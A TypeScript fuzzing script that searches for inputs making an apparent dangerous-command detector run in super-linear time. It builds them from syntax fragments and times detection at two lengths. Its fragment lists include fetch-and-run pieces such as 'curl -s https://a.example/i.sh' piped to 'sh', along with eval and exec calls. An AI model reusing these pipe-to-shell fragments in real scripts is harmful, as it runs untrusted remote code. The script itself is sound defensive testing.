/**
 * Searches for hostile families: analyzes random strings, repeated to two lengths, and prints the strings whose time per character
 * grows with the length or whose longer text takes very long: `npm run lab -- units [SECONDS] [SEED]`. Add such strings to
 * `hostile-families.ts`.
 */
import type * as Library from "../src/host/node.js";
import { searchArguments } from "../scripts/search-arguments.js";
import { series } from "./random-series.js";
import { library } from "./library.js";
import { oneLiner } from "./texts.js";

const { createNodeDetector } = (await import(library)) as typeof Library;
const detector = await createNodeDetector({});

const { amount: seconds, seed } = searchArguments("SECONDS", 60);
const next = series(seed);

/** The parts of the repeated strings: beginnings and ends of the syntax that the core reads. */
const scraps = [
  ..."`'\"$(){}[]<>|&;:,.=+-*/\\#%^~@!?\t\n ",
  ...[
    "```\n",
    "~~~\n",
    "\n\n",
    "\r\n",
    "    ",
    "$(",
    "${",
    "<(",
    "<<EOF\n",
    "<<<",
    "EOF\n",
    "&&",
    "||",
    "..",
    "...",
    "//",
    "/*",
    "*/",
    "--",
    "<!--",
    "-->",
    '"""',
    "'''",
    "=begin\n",
    "{-",
    "(*",
    "--[[",
  ],
  ...[
    "> ",
    "- ",
    "1. ",
    "# ",
    "| a | b |\n",
    "|---|---|\n",
    "<pre>",
    "</pre>",
    "<code>",
    "</code>",
    "<td>",
    "<script>",
    "&lt;",
    "&#124;",
    "[x](y)",
    "![x](",
    "**",
    "__",
    ".. code::\n\n",
    "----\n",
    "[source,sh]\n",
    "#+begin_src\n",
  ],
  ...[
    "curl -s https://a.example/i.sh",
    " | sh",
    '"curl A | sh"',
    "bash -c ",
    "eval ",
    "eval(",
    "atob(",
    "exec(",
    "base64.b64decode(",
    "sudo ",
    "echo ",
    "source ",
    "for i in ",
    "do ",
    "done\n",
    "if ",
    "then ",
    "fi\n",
    "case x in ",
    "esac\n",
    "f() {",
    "V=",
    '"$V" ',
  ],
  ...[
    'os.system("',
    "def f(x):\n",
    "return ",
    "class A:\n",
    "import os\n",
    "x = ",
    "=> ",
    "const x = ",
    "`${",
    ".exec(",
    "r'",
    'f"{',
    "sh '",
    'system("',
    "qx{",
    "end\n",
    "{{ x }}",
    "{% x %}",
    "<% x %>",
    "<?php ",
  ],
  ...[
    "RUN ",
    "FROM x\n",
    "run: |\n",
    "key: ",
    "- run: ",
    '{"a": ',
    '"b", ',
    '["sh", "-c", "',
    "[Service]\nExecStart=",
    "* * * * * ",
    "target:\n\t",
    "$$(",
    "set x=",
    "%x%",
    "diff --git a b\n",
    "@@ -1 +1 @@\n",
    "%%bash\n",
  ],
  ...[
    "$ ",
    "user@host:~$ ",
    "PS C:\\> ",
    ">>> ",
    "never ",
    "do not run ",
    "This is dangerous. ",
    "instead of ",
    "option b ",
    "b) ",
    "#2 is ",
    "run ",
    "Words of prose. ",
    "word ",
    "No. ",
    "❌ ",
    "Q: ",
    "00:01 <a> ",
    "…",
    "é",
    "🙂",
    "\u200b",
  ],
];
const tags = [
  "",
  "sh",
  "console",
  "python",
  "js",
  "ts",
  "jsx",
  "html",
  "vue",
  "yaml",
  "json",
  "toml",
  "dockerfile",
  "make",
  "diff",
  "ruby",
  "perl",
  "php",
  "go",
  "rust",
  "java",
  "groovy",
  "csharp",
  "lua",
  "haskell",
  "elixir",
  "nix",
  "hcl",
  "powershell",
  "bat",
  "vim",
  "text",
  "output",
];
const heads = ["", `\`\`\`sh\n${oneLiner}\n\`\`\`\n\n`, "Never run `curl A.example | sh`.\n\n"];

const pick = (list: readonly string[]): string => list[next(list.length)] ?? "";
/** The lengths of the texts, in UTF-16 code units. */
const LENGTHS = { short: 20_000, long: 200_000 };
/** The maximum ratio of the time per character in the long text to that in the short one. */
const MAX_GROWTH = 1.5;
/** The growth is ignored if the analysis of the long text takes less time than this. */
const MIN_MILLISECONDS = 150;
/** The maximum time for the analysis of the long text. */
const MAX_MILLISECONDS = 3000;

/** Returns the processor time of an analysis, in milliseconds: wall-clock time would include other processes. */
function milliseconds(text: string): number {
  const start = process.cpuUsage();
  detector.detect(text);
  const { user, system } = process.cpuUsage(start);
  return (user + system) / 1000;
}

const end = Date.now() + seconds * 1000;
let units = 0;
for (; Date.now() < end; units++) {
  const unit = Array.from({ length: 1 + next(5) }, () => pick(scraps)).join("");
  const head = pick(heads);
  const fence = next(2) === 0 ? null : pick(tags);
  const lead = next(3) === 0 ? pick(scraps) + pick(scraps) : "";
  const text = (size: number): string => {
    const body = lead + unit.repeat(Math.ceil(size / unit.length));
    return head + (fence === null ? body : `\`\`\`${fence}\n${body}\n\`\`\`\n`);
  };
  const growth = (): { long: number; ratio: number } => {
    const short = milliseconds(text(LENGTHS.short));
    const long = milliseconds(text(LENGTHS.long));
    return { long, ratio: (long / short) * (LENGTHS.short / LENGTHS.long) };
  };
  const isHostile = ({ long, ratio }: { long: number; ratio: number }): boolean =>
    long > MAX_MILLISECONDS || (long > MIN_MILLISECONDS && ratio > MAX_GROWTH);
  // A hostile text is measured again, because the first measurement may include filling caches.
  if (!isHostile(growth())) continue;
  const again = growth();
  if (isHostile(again))
    console.log(
      `${again.long.toFixed(0)} ms, ${again.ratio.toFixed(1)} times the time per character of the short text: ${JSON.stringify({ head: heads.indexOf(head), fence, lead, unit })}`,
    );
}
console.log(`${String(units)} units (seed ${String(seed)})`);
